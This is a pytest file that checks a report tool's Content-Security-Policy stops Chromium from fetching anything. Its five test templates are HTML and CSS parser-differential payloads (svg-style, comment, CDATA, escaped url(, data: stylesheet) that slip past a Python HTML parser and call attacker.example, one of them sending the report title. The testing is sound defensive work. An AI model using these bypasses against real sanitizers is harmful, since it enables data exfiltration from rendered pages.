"""What Python's HTML parser reads one way and a browser another cannot make an HTML paper fetch:
the page tells the browser itself (a Content-Security-Policy first in the page) to fetch nothing
but data: URLs and run no script. Each template here passes the parser's reading; opened in
Chromium, none of them may reach a server."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from conftest import plan_with_template
from test_report_browser import AS_OF, FIXTURE, QUARTER
from vawg_cli.cli import app
from vawg_cli.render.html_safety import POLICY, reaching_out

SLIPS = {
    "a <style> in <svg>, which a browser reads as markup": (
        '<svg><style><img src="https://attacker.example/svg?n={{ report.plan_title|urlencode }}"></style></svg>'
    ),
    "a comment a browser ends at <!-->": '<!--><img src="https://attacker.example/comment"><!-- -->',
    "CDATA, which HTML ends at the first >": '<![CDATA[><img src="https://attacker.example/cdata">]]>',
    "url( spelt with a CSS escape": "<style>body{background:u\\72 l(https://attacker.example/css)}</style>",
    "a stylesheet in a data: URL that fetches": (
        '<link rel="stylesheet" href="data:text/css,body{background:url(https://attacker.example/data)}">'
    ),
}


@pytest.mark.parametrize("slip", sorted(SLIPS))
def test_a_template_that_slips_past_the_reading_still_fetches_nothing(browser: Any, tmp_path: Path, slip: str) -> None:
    plan = plan_with_template(
        FIXTURE, tmp_path / "plan", "report.html.j2", '{% include "shipped/report.html.j2" %}' + SLIPS[slip] + "\n"
    )
    output = tmp_path / "paper.html"
    result = CliRunner().invoke(
        app, ["report", "--plan", str(plan), "--quarter", QUARTER, "--as-of", AS_OF, "-o", str(output)]
    )
    assert result.exit_code == 0, result.output  # the parser's reading let it through
    html = output.read_text(encoding="utf-8")
    assert reaching_out(html) is None
    assert POLICY in html.split("<head", 1)[0] + html[:2000]
    assert fetched(browser, output) == []


def fetched(browser: Any, html: Path) -> list[str]:
    """The addresses the page sent out to the network when opened (each refused, never answered).

    Counted where a request is routed to the network: one the page's policy blocks is reported by
    the browser's own request events too, but never gets this far."""
    import re

    page = browser.new_page()
    sent: list[str] = []

    def refuse(route: Any) -> None:
        sent.append(route.request.url)
        route.abort()

    page.route(re.compile(r"^(?!file:|data:)"), refuse)
    page.goto(html.resolve().as_uri(), wait_until="load")
    page.wait_for_timeout(200)
    page.close()
    return sent


def test_without_the_policy_the_browser_would_fetch(browser: Any, tmp_path: Path) -> None:
    # The measure of the test above: the same slip, in a page without the policy, is fetched.
    page = tmp_path / "bare.html"
    page.write_text("<!doctype html><html><body>" + SLIPS["a comment a browser ends at <!-->"] + "</body></html>")
    assert fetched(browser, page) == ["https://attacker.example/comment"]
